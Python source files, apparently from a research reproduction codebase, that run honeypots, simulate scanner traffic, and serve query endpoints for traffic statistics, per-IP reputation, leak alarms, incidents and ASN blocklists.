    print(line)
    audit = summary.get("audit_log")
    if audit is not None:
        print(f"audit log: {audit['records']} record(s) -> {audit['path']} "
              f"(digest {audit['digest'][:12]})")
    return 0


def _command_honeypots(args: argparse.Namespace) -> int:
    import asyncio

    from repro.honeypots.live import LiveHoneypot

    services = _parse_services(args.port, ["8080=http", "2323=telnet"])
    if services is None:
        return 2

    async def _serve() -> list:
        honeypot = LiveHoneypot(host=args.host, services=services)
        async with honeypot:
            bound = ", ".join(
                f"{args.host}:{actual} ({type(services[requested]).__name__})"
                for requested, actual in honeypot.bound_ports.items()
            )
            print(f"listening on {bound} for {args.duration:.0f}s ...", flush=True)
            await asyncio.sleep(args.duration)
            await honeypot.stop()
        return honeypot.events

    events = asyncio.run(_serve())
    print(f"captured {len(events)} sessions")
    for event in events:
        summary = event.payload[:60] if event.payload else b"<no payload>"
        print(f"  port {event.dst_port} from {event.src_ip}: {summary!r} "
              f"credentials={event.credentials}")
    return 0


def _command_serve(args: argparse.Namespace) -> int:
    import asyncio
    import threading

    from repro.serve import QueryServer, RunDirBackend, ServeOptions

    options = ServeOptions(
        host=args.host,
        port=args.port,
        backlog=args.backlog,
        max_connections=args.max_connections,
        max_request_bytes=args.max_request_bytes,
        read_timeout=args.read_timeout,
        keepalive_requests=args.keepalive_requests,
    )

    ingest: threading.Thread | None = None
    if args.run_dir:
        try:
            backend = RunDirBackend(args.run_dir)
        except FileNotFoundError as error:
            print(f"error: {error}", file=sys.stderr)
            return 2
        label = (f"run dir {args.run_dir} "
                 f"({len(backend.dataset.tables)} vantages, "
                 f"digest {backend.dataset_digest[:12]})")
    else:
        config = _sim_config(args)
        if config is None:
            return 2
        from repro.deployment.fleet import build_full_deployment
        from repro.experiments.context import _WINDOWS
        from repro.scanners.population import PopulationConfig, build_population
        from repro.serve.backends import build_live_pipeline
        from repro.sim.engine import SimulationConfig, run_simulation
        from repro.sim.rng import RngHub

        window = _WINDOWS[config.year]
        deployment = build_full_deployment(
            RngHub(config.seed), num_telescope_slash24s=config.telescope_slash24s
        )
        population = build_population(
            PopulationConfig(year=config.year, scale=config.scale)
        )
        bus, _analyzer, _tracker, backend = build_live_pipeline(
            window.hours,
            leak_experiment=deployment.leak_experiment,
            sketch_k=args.sketch_k,
            max_buffered_events=args.queue_events,
            incidents=args.incidents,
        )

        def _ingest() -> None:
            run_simulation(
                deployment,
                population,
                SimulationConfig(seed=config.seed, window=window),
                tap=bus.table_tap(),
            )
            bus.close()

        ingest = threading.Thread(target=_ingest, daemon=True)
        label = (f"live simulation ({len(population)} campaigns, "
                 f"scale {config.scale}, seed {config.seed})")

    async def _serve():
        server = QueryServer(backend, options)
        await server.start()
        print(f"serving {label} on http://{options.host}:{server.port}", flush=True)
        if ingest is not None:
            ingest.start()
        try:
            if args.duration > 0:
                await asyncio.sleep(args.duration)
            else:
                await server.serve_forever()
        finally:
            await server.stop()  # graceful drain of in-flight requests
        return server.stats

    try:
        stats = asyncio.run(_serve())
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
        return 0
    print(f"served {stats.requests_served:,} request(s) over "
          f"{stats.connections_accepted:,} connection(s) "
          f"({stats.rejected_connections} rejected); drained cleanly")
    return 0


def _command_respond(args: argparse.Namespace) -> int:
    from collections import Counter

    from repro.incident.pipeline import detect_incidents
    from repro.reporting.tables import render_table
    from repro.serve.backends import load_run_dir

    try:
        config, dataset, digest = load_run_dir(args.run_dir)
    except FileNotFoundError as error:
        print(f"error: {error}", file=sys.stderr)
        return 2
    events = sum(len(t) for t in dataset.tables.values())
    print(f"responding over {args.run_dir}: {events:,} events, "
          f"seed {config.seed}, dataset digest {digest[:12]}")
    started = time.perf_counter()
    pipeline = detect_incidents(dataset, quiet_hours=args.quiet_hours)
    elapsed = time.perf_counter() - started

    by_rule: Counter = Counter()
    for incident in pipeline.store.history:
        by_rule[incident.rule] += 1
    actions_by_kind = Counter(
        record["action"] for record in pipeline.audit.actions()
    )
    print(render_table(
        ["rule", "incidents"],
        [(rule, by_rule[rule]) for rule in sorted(by_rule)],
        title="incident census",
    ))
    summary = pipeline.summary()
    line = (f"{summary['incidents']} incident(s) "
            f"({summary['resolved']} resolved), "
            f"{summary['actions']} action(s) ("
            + "/".join(f"{kind}:{count}"
                       for kind, count in sorted(actions_by_kind.items()))
            + f"), {len(pipeline.executor.blocklist)} blocklist entr"
            + ("y" if len(pipeline.executor.blocklist) == 1 else "ies")
            + f" in {elapsed:.2f}s")
    if summary["last_action"]:
        line += f"; last action: {summary['last_action']}"
    print(line)
    if args.audit_log:
        records = pipeline.audit.write(args.audit_log)
        print(f"audit log: {records} record(s) -> {args.audit_log} "
              f"(digest {pipeline.audit.digest()[:12]})")
    if args.blocklist_out:
        from repro.analysis.blocklists import write_blocklist_file

        count = write_blocklist_file(
            args.blocklist_out,
            asns=(entry.asn for entry in pipeline.executor.blocklist),
        )
        print(f"blocklist: {count} entr"
              + ("y" if count == 1 else "ies")
              + f" -> {args.blocklist_out}")
    return 0


def main(argv: list[str] | None = None) -> int:
    args = _build_parser().parse_args(argv)
    if args.command == "list":
        return _command_list()
    if args.command == "run":
        return _command_run(args)
    if args.command == "simulate":
        return _command_simulate(args)
    if args.command == "orchestrate":
        return _command_orchestrate(args)
    if args.command == "bench":
        return _command_bench(args)
    if args.command == "watch":
        return _command_watch(args)
    if args.command == "honeypots":
        return _command_honeypots(args)
    if args.command == "serve":
        return _command_serve(args)
    if args.command == "respond":
        return _command_respond(args)
    if args.command == "lint":
        from repro.lint.cli import main as lint_main

        return lint_main(args)
    raise AssertionError("unreachable")


if __name__ == "__main__":
    raise SystemExit(main())
