"""The serving layer's two backends: live sketch state and run dirs.

Both backends answer the same endpoint set with the same JSON shapes,
so a client (and the test suite) can move between them freely:

========================  ==================================================
``GET /healthz``          liveness + backend identity
``GET /vantages``         per-vantage rates, distinct sources, spike counts
``GET /top``              Space-Saving / exact top-k for one characteristic
``GET /cardinality``      distinct-source cardinalities (HLL or exact)
``GET /volumes``          one vantage's hourly event series
``GET /compare``          the §3.3 cross-vantage chi-squared, on demand
``GET /ip``               per-IP GreyNoise-style classification
``GET /alarms``           streaming Table 3 leak-alarm status
``GET /stats``            bus backpressure/drop counters + server stats
========================  ==================================================

* :class:`LiveBackend` attaches to a running
  :class:`~repro.stream.analyzer.StreamAnalyzer` /
  :class:`~repro.stream.bus.StreamBus` pair and answers from bounded
  sketch state — estimates with explicit error bounds, never a rescan,
  so a query can never block or slow ingest beyond the shared lock's
  microseconds.  Per-IP classification comes from a bounded
  :class:`ReputationTracker` fed off the same bus.
* :class:`RunDirBackend` opens a completed ``cloudwatching orchestrate``
  output directory through the memory-mapped shard banks
  (:class:`~repro.io.lazy.ShardedEventTable`) and answers with *exact*
  batch values computed by the same columnar machinery the experiment
  drivers use, memoized per (dataset digest, endpoint, params) in a
  content-addressed response cache.
"""

from __future__ import annotations

import hashlib
import json
import threading
from collections import Counter, OrderedDict
from pathlib import Path
from typing import Mapping, Optional, Union

import numpy as np

from repro.lint.markers import requires_ingest_lock
from repro.net.addresses import int_to_ip
from repro.serve.schema import (
    ActionsQuery,
    AlarmsQuery,
    CardinalityQuery,
    CompareQuery,
    Characteristic,
    IncidentsQuery,
    IpQuery,
    NoParamsQuery,
    SchemaError,
    TopQuery,
    VolumesQuery,
)

__all__ = [
    "ROUTES",
    "ServeBackend",
    "LiveBackend",
    "RunDirBackend",
    "ReputationTracker",
    "LockedConsumer",
    "build_live_pipeline",
    "encode_category",
    "load_run_dir",
]

#: path -> (request contract, backend method name)
ROUTES = {
    "/healthz": (NoParamsQuery, "health"),
    "/vantages": (NoParamsQuery, "vantages"),
    "/top": (TopQuery, "top"),
    "/cardinality": (CardinalityQuery, "cardinality"),
    "/volumes": (VolumesQuery, "volumes"),
    "/compare": (CompareQuery, "compare"),
    "/ip": (IpQuery, "classify"),
    "/alarms": (AlarmsQuery, "alarms"),
    "/incidents": (IncidentsQuery, "incidents"),
    "/actions": (ActionsQuery, "actions"),
    "/stats": (NoParamsQuery, "stats"),
}


def encode_category(category) -> Union[int, str, dict]:
    """One sketch/counter category as a JSON-safe value.

    Integers (ASes) and strings (credentials) pass through; payload
    bytes become ``{"base64", "text"}`` so binary payloads survive JSON
    without loss while staying human-readable.
    """
    import base64

    if isinstance(category, bytes):
        text = category.split(b"\r\n", 1)[0].decode("utf-8", errors="replace")[:64]
        return {"base64": base64.b64encode(category).decode("ascii"), "text": text}
    if isinstance(category, (int, np.integer)):
        return int(category)
    return str(category)


def _chi_square_json(result) -> dict:
    return {
        "statistic": float(result.statistic),
        "p_value": float(result.p_value),
        "dof": int(result.dof),
        "phi": float(result.phi),
        "df_min": int(result.df_min),
        "sample_size": int(result.sample_size),
        "valid": bool(result.valid),
        "magnitude": str(result.magnitude) if result.valid else "untestable",
    }


def _incidents_json(pipeline, status: Optional[str], mode: str) -> dict:
    """The shared ``/incidents`` shape (both backends, one encoder)."""
    if pipeline is None:
        return {"backend": mode, "enabled": False,
                "counts": None, "incidents": []}
    counts = pipeline.store.counts()
    return {
        "backend": mode,
        "enabled": True,
        "counts": counts,
        "incidents": [
            incident.as_dict() for incident in pipeline.store.by_status(status)
        ],
    }


def _actions_json(pipeline, action: Optional[str], mode: str) -> dict:
    """The shared ``/actions`` shape (both backends, one encoder)."""
    if pipeline is None:
        return {"backend": mode, "enabled": False,
                "actions": [], "blocklist": []}
    return {
        "backend": mode,
        "enabled": True,
        "actions": pipeline.audit.actions(action),
        "blocklist": [
            entry.as_dict() for entry in pipeline.executor.blocklist
        ],
        "audit_records": len(pipeline.audit),
        "audit_digest": pipeline.audit.digest(),
    }


def _alarm_json(alarm) -> dict:
    return {
        "service": alarm.service,
        "group": alarm.group,
        "fold": float(alarm.fold),
        "mwu_p": float(alarm.mwu_p),
        "ks_p": float(alarm.ks_p),
        "stochastically_greater": bool(alarm.stochastically_greater),
        "distribution_differs": bool(alarm.distribution_differs),
        "leaked_spikes": int(alarm.leaked_spikes),
        "control_spikes": int(alarm.control_spikes),
        "trailing_hours": int(alarm.trailing_hours),
    }


class ServeBackend:
    """Routing shared by both backends: contract-validate, dispatch."""

    #: "live" or "run-dir" — stamped into /healthz and /stats.
    mode: str = "abstract"

    def handle(self, path: str, params: Mapping[str, str]) -> Optional[dict]:
        """Answer one request; ``None`` for unknown paths (a 404).

        Contract violations — including unknown vantage ids — raise
        :class:`~repro.serve.schema.SchemaError`, which the HTTP layer
        renders as a structured 400.
        """
        route = ROUTES.get(path)
        if route is None:
            return None
        contract, method = route
        query = contract.parse(params)
        return getattr(self, method)(query)

    def cache_key(self, path: str, params: Mapping[str, str]) -> Optional[str]:
        """Content address of this response, or None when uncacheable."""
        return None

    def _unknown_vantage(self, vantage: str) -> SchemaError:
        return SchemaError.single("vantage", "unknown vantage", vantage)

    # Subclasses implement: health, vantages, top, cardinality, volumes,
    # compare, classify, alarms, stats.


# ---------------------------------------------------------------------------
# live mode
# ---------------------------------------------------------------------------


class ReputationTracker:
    """Bounded per-IP reputation over the stream (GreyNoise's question:
    *who is this scanner?*).

    A bus subscriber maintaining at most ``capacity`` per-IP records
    (source ASN, event count, malicious flag).  Classification follows
    the paper's §3.2 definitions exactly — an IP is *malicious* once any
    of its events attempts a login or trips the vetted ruleset, *benign*
    when its operator AS is on the vetted registry, *unknown* otherwise.
    At capacity the oldest non-malicious record is evicted (malicious
    verdicts are the scarce signal worth keeping), so memory stays
    bounded no matter how many sources scan.
    """

    def __init__(self, capacity: int = 65536, rule_engine=None) -> None:
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        from repro.detection.engine import RuleEngine

        self.capacity = capacity
        self.rule_engine = rule_engine or RuleEngine()
        #: ip -> [asn, events, malicious] in least-recently-seen order.
        self._records: OrderedDict[int, list] = OrderedDict()
        self.evicted = 0

    def __len__(self) -> int:
        return len(self._records)

    def consume(self, chunk) -> None:
        src_ips = chunk.resolved("src_ip")
        src_asns = chunk.resolved("src_asn")
        length = len(chunk)

        credentials = chunk.raw("credentials")
        if isinstance(credentials, np.ndarray):
            attempted = [bool(pairs) for pairs in credentials[chunk.start:chunk.stop]]
        else:
            attempted = [bool(credentials)] * length

        payload = chunk.raw("payload")
        port = chunk.raw("dst_port")
        if isinstance(payload, np.ndarray):
            payloads = payload[chunk.start:chunk.stop]
            ports = chunk.resolved("dst_port")
            verdicts = [
                bool(value)
                and self.rule_engine.is_malicious(value, int(ports[index]))
                for index, value in enumerate(payloads)
            ]
        elif isinstance(port, np.ndarray):
            ports = chunk.resolved("dst_port")
            verdicts = [
                bool(payload)
                and self.rule_engine.is_malicious(payload, int(ports[index]))
                for index in range(length)
            ]
        else:
            # Scalar broadcast run: one ruleset evaluation for the lot.
            verdict = bool(payload) and self.rule_engine.is_malicious(
                payload, int(port)
            )
            verdicts = [verdict] * length

        records = self._records
        for index in range(length):
            ip = int(src_ips[index])
            malicious = attempted[index] or verdicts[index]
            record = records.get(ip)
            if record is None:
                records[ip] = [int(src_asns[index]), 1, malicious]
                self._evict_if_needed()
            else:
                record[0] = int(src_asns[index])
                record[1] += 1
                record[2] = record[2] or malicious
                records.move_to_end(ip)

    def _evict_if_needed(self) -> None:
        while len(self._records) > self.capacity:
            for ip in self._records:
                if not self._records[ip][2]:
                    del self._records[ip]
                    break
            else:  # every record is malicious: evict the oldest anyway
                self._records.popitem(last=False)
            self.evicted += 1

    def classify(self, ip: int) -> dict:
        from repro.detection.classify import VETTED_BENIGN_ASES

        record = self._records.get(ip)
        if record is None:
            return {"seen": False, "reputation": "unknown", "events": 0, "asn": None}
        asn, events, malicious = record
        if malicious:
            reputation = "malicious"
        elif asn in VETTED_BENIGN_ASES:
            reputation = "benign"
        else:
            reputation = "unknown"
        return {"seen": True, "reputation": reputation,
                "events": int(events), "asn": int(asn)}

    def state_bytes(self) -> int:
        return 64 * len(self._records)


class LiveBackend(ServeBackend):
    """Serve a running analyzer's sketch state without blocking ingest.

    ``lock`` is shared with the ingest side (the thread publishing to
    the bus): every answer is computed under it, so queries see
    consistent sketch state and ingest never observes a half-read.
    Estimates are labeled ``"exact": false`` and carry their error
    bounds — a Space-Saving answer is an overestimate by at most the
    reported per-entry error.
    """

    mode = "live"

    def __init__(
        self,
        analyzer,
        bus=None,
        tracker: Optional[ReputationTracker] = None,
        lock: Optional[threading.Lock] = None,
        pipeline=None,
    ) -> None:
        self.analyzer = analyzer
        self.bus = bus
        self.tracker = tracker
        #: Optional live :class:`~repro.incident.pipeline.IncidentPipeline`
        #: consuming the same bus under the same lock.
        self.pipeline = pipeline
        self.lock = lock or threading.Lock()

    @requires_ingest_lock
    def _require_vantage(self, vantage: str) -> None:
        if vantage not in self.analyzer.events_per_vantage:
            raise self._unknown_vantage(vantage)

    def health(self, _query) -> dict:
        with self.lock:
            analyzer = self.analyzer
            return {
                "status": "ok",
                "backend": self.mode,
                "events": int(analyzer.events_consumed),
                "chunks": int(analyzer.chunks_consumed),
                "vantages": len(analyzer.events_per_vantage),
                "watermark_hours": float(analyzer.windows.watermark),
                "state_bytes": int(analyzer.state_bytes()),
            }

    def vantages(self, _query) -> dict:
        with self.lock:
            analyzer = self.analyzer
            rows = []
            for vantage_id, events in analyzer.events_per_vantage.most_common():
                hll = analyzer.distinct_sources.get(vantage_id)
                rows.append({
                    "vantage": vantage_id,
                    "events": int(events),
                    "rate_per_hour": float(analyzer.windows.rate_per_hour(vantage_id)),
                    "distinct_sources": float(hll.estimate()) if hll else 0.0,
                    "spikes": int(analyzer.windows.spikes(vantage_id)),
                })
            return {"backend": self.mode, "vantages": rows}

    def top(self, query: TopQuery) -> dict:
        with self.lock:
            self._require_vantage(query.vantage)
            sketch = self.analyzer.contingency[query.characteristic.value].sketch(
                query.vantage
            )
            categories = [
                {
                    "category": encode_category(category),
                    "count": float(sketch.estimate(category)),
                    "error": float(sketch.error(category)),
                }
                for category in sketch.top(query.k)
            ]
            return {
                "backend": self.mode,
                "vantage": query.vantage,
                "characteristic": query.characteristic.value,
                "k": query.k,
                "exact": False,
                "error_bound": float(sketch.error_bound) if sketch.total else 0.0,
                "categories": categories,
            }

    def cardinality(self, query: CardinalityQuery) -> dict:
        with self.lock:
            analyzer = self.analyzer
            if query.vantage is not None:
                self._require_vantage(query.vantage)
                wanted = [query.vantage]
            else:
                wanted = sorted(analyzer.events_per_vantage)
            return {
                "backend": self.mode,
                "exact": False,
                "distinct_sources": {
                    vantage_id: float(
                        analyzer.distinct_sources[vantage_id].estimate()
                    ) if vantage_id in analyzer.distinct_sources else 0.0
                    for vantage_id in wanted
                },
            }

    def volumes(self, query: VolumesQuery) -> dict:
        with self.lock:
            self._require_vantage(query.vantage)
            windows = self.analyzer.windows
            return {
                "backend": self.mode,
                "vantage": query.vantage,
                "hours": int(windows.hours),
                "watermark_hours": float(windows.watermark),
                "sealed_hours": int(windows.sealed_hours()),
                "series": [float(v) for v in windows.series(query.vantage)],
                "spikes": int(windows.spikes(query.vantage)),
                "rate_per_hour": float(windows.rate_per_hour(query.vantage)),
            }

    def compare(self, query: CompareQuery) -> dict:
        with self.lock:
            result = self.analyzer.chi_square(query.characteristic.value, query.k)
            return {
                "backend": self.mode,
                "characteristic": query.characteristic.value,
                "k": query.k,
                "exact": False,
                "chi_square": _chi_square_json(result),
            }

    def classify(self, query: IpQuery) -> dict:
        with self.lock:
            if self.tracker is None:
                raise SchemaError.single(
                    "ip", "per-IP classification is not enabled on this server", None
                )
            answer = self.tracker.classify(query.ip)
            return {"backend": self.mode, "ip": int_to_ip(query.ip), **answer}

    def alarms(self, query: AlarmsQuery) -> dict:
        with self.lock:
            leak = self.analyzer.leak
            rows = leak.evaluate(query.trailing_hours) if leak is not None else []
            return {
                "backend": self.mode,
                "enabled": leak is not None,
                "trailing_hours": query.trailing_hours,
                "alarms": [_alarm_json(alarm) for alarm in rows],
            }

    def incidents(self, query: IncidentsQuery) -> dict:
        with self.lock:
            return _incidents_json(self.pipeline, query.status, self.mode)

    def actions(self, query: ActionsQuery) -> dict:
        with self.lock:
            return _actions_json(self.pipeline, query.action, self.mode)

    def stats(self, _query) -> dict:
        with self.lock:
            payload = {
                "backend": self.mode,
                "events": int(self.analyzer.events_consumed),
                "state_bytes": int(self.analyzer.state_bytes()),
                "bus": self.bus.stats.as_dict() if self.bus is not None else None,
            }
            if self.bus is not None:
                payload["bus"]["policy"] = self.bus.policy
                payload["bus"]["max_buffered_events"] = self.bus.max_buffered_events
            if self.tracker is not None:
                payload["reputation"] = {
                    "tracked_ips": len(self.tracker),
                    "capacity": self.tracker.capacity,
                    "evicted": self.tracker.evicted,
                }
            if self.pipeline is not None:
                payload["incidents"] = self.pipeline.summary()
            return payload


class LockedConsumer:
    """Deliver one chunk to several consumers under a shared lock.

    The ingest thread publishes through this; the query side reads the
    same sketch state under the same lock.  One acquisition covers the
    whole fan-out, so every consumer sees each chunk atomically with
    respect to queries.
    """

    def __init__(self, lock: threading.Lock, *consumers) -> None:
        self.lock = lock
        self.consumers = consumers

    def consume(self, chunk) -> None:
        with self.lock:
            for consumer in self.consumers:
                consumer.consume(chunk)


def build_live_pipeline(
    hours: int,
    leak_experiment=None,
    sketch_k: int = 64,
    max_buffered_events: int = 65536,
    policy: str = "backpressure",
    tracker_capacity: int = 65536,
    incidents: bool = False,
):
    """Wire bus → (analyzer, tracker) → LiveBackend for live serving.

    Returns ``(bus, analyzer, tracker, backend)``.  The analyzer and
    tracker consume under one shared lock; the returned backend answers
    queries under the same lock, so an ingest thread can publish while
    an asyncio server reads, with neither seeing torn state.

    ``incidents=True`` additionally wires a live
    :class:`~repro.incident.pipeline.IncidentPipeline` into the same
    locked fan-out (after the analyzer, so rules see sketched hours) and
    exposes it on the backend's ``/incidents`` and ``/actions``
    endpoints.  Off by default: detection costs rule evaluations per
    sealed hour, and servers that only answer sketch queries should not
    pay it.
    """
    from repro.stream.analyzer import StreamAnalyzer
    from repro.stream.bus import StreamBus

    lock = threading.Lock()
    bus = StreamBus(max_buffered_events=max_buffered_events, policy=policy)
    analyzer = StreamAnalyzer(
        hours=hours, sketch_k=sketch_k, leak_experiment=leak_experiment
    )
    tracker = ReputationTracker(capacity=tracker_capacity)
    consumers = [analyzer, tracker]
    pipeline = None
    if incidents:
        from repro.incident.pipeline import IncidentPipeline

        pipeline = IncidentPipeline(analyzer)
        consumers.append(pipeline)
    bus.subscribe(LockedConsumer(lock, *consumers))
    backend = LiveBackend(
        analyzer, bus=bus, tracker=tracker, lock=lock, pipeline=pipeline
    )
    return bus, analyzer, tracker, backend


# ---------------------------------------------------------------------------
# run-dir mode
# ---------------------------------------------------------------------------


def load_run_dir(run_dir: Union[str, Path]):
    """Open a completed orchestrate output as (config, dataset, digest).

    Reads ``run.json`` for the configuration and dataset digest,
    deterministically rebuilds the deployment (vantage identities and
    leak-experiment geometry — no event data comes from it), then maps
    every completed shard's column banks into per-vantage
    :class:`~repro.io.lazy.ShardedEventTable` views.  Nothing beyond the
    shard directories' small NDJSON headers is read until an endpoint
    touches a column.
    """
    from repro.analysis.dataset import AnalysisDataset
    from repro.deployment.fleet import build_full_deployment
    from repro.experiments.context import ExperimentConfig, _WINDOWS
    from repro.io.lazy import ShardedEventTable
    from repro.io.shards import load_shard_tables, read_manifest
    from repro.sim.rng import RngHub

    run_dir = Path(run_dir)
    run_file = run_dir / "run.json"
    if not run_file.exists():
        raise FileNotFoundError(f"{run_file} not found (not an orchestrate output?)")
    with open(run_file, "r", encoding="utf-8") as handle:
        run_record = json.load(handle)
    config = ExperimentConfig(**run_record.get("config", {}))
    digest = run_record.get("dataset_digest", "")

    deployment = build_full_deployment(
        RngHub(config.seed), num_telescope_slash24s=config.telescope_slash24s
    )
    shard_tables = []
    for shard_path in sorted(run_dir.glob("shard-*")):
        if shard_path.is_dir() and read_manifest(shard_path) is not None:
            shard_tables.append(load_shard_tables(shard_path))
    if not shard_tables:
        raise FileNotFoundError(f"no completed shards under {run_dir}")

    tables = {}
    for vantage in deployment.honeypots:
        merged = ShardedEventTable.for_vantage(vantage)
        for shard_pos, shard in enumerate(shard_tables):
            part = shard.get(vantage.vantage_id)
            if part is not None and len(part):
                merged.add_part(shard_pos, part)
        if merged.parts:
            tables[vantage.vantage_id] = merged

    dataset = AnalysisDataset(
        tables=tables,
        vantages=deployment.honeypots,
        window=_WINDOWS[config.year],
        leak_experiment=deployment.leak_experiment,
        shard_tables=shard_tables,
    )
    return config, dataset, digest


class RunDirBackend(ServeBackend):
    """Exact batch answers over a completed orchestrate run directory.

    Every response is computed from the memory-mapped shard columns with
    the same primitives the batch analyses use (``top_k`` ordering,
    ``hourly_volumes`` binning, ``union_table`` → ``chi_square_test``,
    the reputation oracle), labeled ``"exact": true``.  Computed
    aggregates are memoized per (vantage, characteristic); encoded
    responses are additionally cached content-addressed on
    ``(dataset_digest, path, params)`` by the HTTP layer, keyed through
    :meth:`cache_key`.
    """

    mode = "run-dir"

    def __init__(self, run_dir: Union[str, Path]) -> None:
        self.run_dir = Path(run_dir)
        self.config, self.dataset, self.dataset_digest = load_run_dir(run_dir)
        self.hours = int(self.dataset.window.hours)
        self._counters: dict[tuple[str, str], Counter] = {}
        self._leak_alarm = None
        self._incidents = None
        self._lock = threading.Lock()

    # -- shared aggregates (memoized) ----------------------------------

    @requires_ingest_lock
    def _require_vantage(self, vantage: str) -> None:
        if vantage not in self.dataset.tables:
            raise self._unknown_vantage(vantage)

    @requires_ingest_lock
    def _counter(self, vantage: str, characteristic: Characteristic) -> Counter:
        """Exact per-vantage category counts off the mapped columns."""
        from repro.scanners.payloads import strip_ephemeral_headers

        key = (vantage, characteristic.value)
        cached = self._counters.get(key)
        if cached is not None:
            return cached
        table = self.dataset.tables[vantage]
        counts: Counter = Counter()
        if characteristic is Characteristic.AS:
            values, occurrences = np.unique(table.src_asn, return_counts=True)
            counts.update(dict(zip(
                (int(v) for v in values), (int(c) for c in occurrences)
            )))
        elif characteristic is Characteristic.PAYLOAD:
            for payload in table.payloads:
                if payload:
                    counts[strip_ephemeral_headers(payload)] += 1
        else:
            slot = 0 if characteristic is Characteristic.USERNAME else 1
            for pairs in table.credentials:
                for pair in pairs:
                    counts[pair[slot]] += 1
        self._counters[key] = counts
        return counts

    @requires_ingest_lock
    def _group_counts(self, characteristic: Characteristic) -> dict[str, Counter]:
        return {
            vantage_id: self._counter(vantage_id, characteristic)
            for vantage_id in sorted(self.dataset.tables)
        }

    @requires_ingest_lock
    def _leak(self):
        from repro.stream.windows import StreamingLeakAlarm

        if self._leak_alarm is None and self.dataset.leak_experiment is not None:
            alarm = StreamingLeakAlarm(self.dataset.leak_experiment, self.hours)
            for vantage_id in sorted(self.dataset.tables):
                table = self.dataset.tables[vantage_id]
                alarm.observe(table.dst_ip, table.dst_port,
                              table.src_asn, table.timestamps)
                alarm.windows.watermark = max(
                    alarm.windows.watermark,
                    float(table.timestamps.max()) if len(table) else 0.0,
                )
            self._leak_alarm = alarm
        return self._leak_alarm

    @requires_ingest_lock
    def _detect(self):
        """Post-hoc incident detection over the run, memoized.

        The canonical replay is a pure function of the merged tables, so
        the pipeline (and its audit digest) answers identically to the
        live pipeline that watched the same run — that parity is a test.
        """
        if self._incidents is None:
            from repro.incident.pipeline import detect_incidents

            self._incidents = detect_incidents(self.dataset)
        return self._incidents

    # -- endpoints ------------------------------------------------------

    def cache_key(self, path: str, params: Mapping[str, str]) -> Optional[str]:
        if path not in ROUTES:
            return None
        canonical = "&".join(f"{k}={params[k]}" for k in sorted(params))
        content = f"{self.dataset_digest}|{path}|{canonical}"
        return hashlib.sha256(content.encode("utf-8")).hexdigest()

    def health(self, _query) -> dict:
        with self._lock:
            return {
                "status": "ok",
                "backend": self.mode,
                "run_dir": str(self.run_dir),
                "dataset_digest": self.dataset_digest,
                "events": int(sum(len(t) for t in self.dataset.tables.values())),
                "vantages": len(self.dataset.tables),
                "config": {
                    "year": self.config.year,
                    "scale": self.config.scale,
                    "telescope_slash24s": self.config.telescope_slash24s,
                    "seed": self.config.seed,
                },
            }

    def vantages(self, _query) -> dict:
        with self._lock:
            from repro.stats.volume import count_spikes, hourly_volumes

            rows = []
            ordered = sorted(
                self.dataset.tables.items(), key=lambda item: (-len(item[1]), item[0])
            )
            for vantage_id, table in ordered:
                series = hourly_volumes(table.timestamps, self.hours)
                rows.append({
                    "vantage": vantage_id,
                    "events": int(len(table)),
                    "rate_per_hour": float(series.mean()) if series.size else 0.0,
                    "distinct_sources": float(len(np.unique(table.src_ip))),
                    "spikes": int(count_spikes(series)),
                })
            return {"backend": self.mode, "vantages": rows}

    def top(self, query: TopQuery) -> dict:
        with self._lock:
            from repro.stats.topk import top_k

            self._require_vantage(query.vantage)
            counts = self._counter(query.vantage, query.characteristic)
            return {
                "backend": self.mode,
                "vantage": query.vantage,
                "characteristic": query.characteristic.value,
                "k": query.k,
                "exact": True,
                "error_bound": 0.0,
                "categories": [
                    {
                        "category": encode_category(category),
                        "count": float(counts[category]),
                        "error": 0.0,
                    }
                    for category in top_k(counts, query.k)
                ],
            }

    def cardinality(self, query: CardinalityQuery) -> dict:
        with self._lock:
            if query.vantage is not None:
                self._require_vantage(query.vantage)
                wanted = [query.vantage]
            else:
                wanted = sorted(self.dataset.tables)
            return {
                "backend": self.mode,
                "exact": True,
                "distinct_sources": {
                    vantage_id: float(
                        len(np.unique(self.dataset.tables[vantage_id].src_ip))
                    )
                    for vantage_id in wanted
                },
            }

    def volumes(self, query: VolumesQuery) -> dict:
        with self._lock:
            from repro.stats.volume import count_spikes, hourly_volumes

            self._require_vantage(query.vantage)
            table = self.dataset.tables[query.vantage]
            series = hourly_volumes(table.timestamps, self.hours)
            watermark = float(table.timestamps.max()) if len(table) else 0.0
            return {
                "backend": self.mode,
                "vantage": query.vantage,
                "hours": self.hours,
                "watermark_hours": watermark,
                "sealed_hours": min(int(watermark), self.hours),
                "series": [float(v) for v in series],
                "spikes": int(count_spikes(series)),
                "rate_per_hour": float(series.mean()) if series.size else 0.0,
            }

    def compare(self, query: CompareQuery) -> dict:
        with self._lock:
            from repro.stats.contingency import chi_square_test
            from repro.stats.topk import union_table

            table, _groups, _categories = union_table(
                self._group_counts(query.characteristic), query.k
            )
            return {
                "backend": self.mode,
                "characteristic": query.characteristic.value,
                "k": query.k,
                "exact": True,
                "chi_square": _chi_square_json(chi_square_test(table)),
            }

    def classify(self, query: IpQuery) -> dict:
        with self._lock:
            oracle = self.dataset.reputation_oracle()
            seen_asn = oracle._seen_ips.get(query.ip)
            events = int(sum(
                int(np.count_nonzero(table.src_ip == np.uint32(query.ip)))
                for table in self.dataset.tables.values()
            )) if seen_asn is not None else 0
            return {
                "backend": self.mode,
                "ip": int_to_ip(query.ip),
                "seen": seen_asn is not None,
                "reputation": oracle.reputation(query.ip).value,
                "events": events,
                "asn": int(seen_asn) if seen_asn is not None else None,
            }

    def alarms(self, query: AlarmsQuery) -> dict:
        with self._lock:
            leak = self._leak()
            rows = leak.evaluate(query.trailing_hours) if leak is not None else []
            return {
                "backend": self.mode,
                "enabled": leak is not None,
                "trailing_hours": query.trailing_hours,
                "alarms": [_alarm_json(alarm) for alarm in rows],
            }

    def incidents(self, query: IncidentsQuery) -> dict:
        with self._lock:
            return _incidents_json(self._detect(), query.status, self.mode)

    def actions(self, query: ActionsQuery) -> dict:
        with self._lock:
            return _actions_json(self._detect(), query.action, self.mode)

    def stats(self, _query) -> dict:
        with self._lock:
            payload = {
                "backend": self.mode,
                "dataset_digest": self.dataset_digest,
                "events": int(sum(len(t) for t in self.dataset.tables.values())),
                "bus": None,
                "memoized_counters": len(self._counters),
            }
            if self._incidents is not None:
                payload["incidents"] = self._incidents.summary()
            return payload
