"""Async load generator for the serving layer's benchmark.

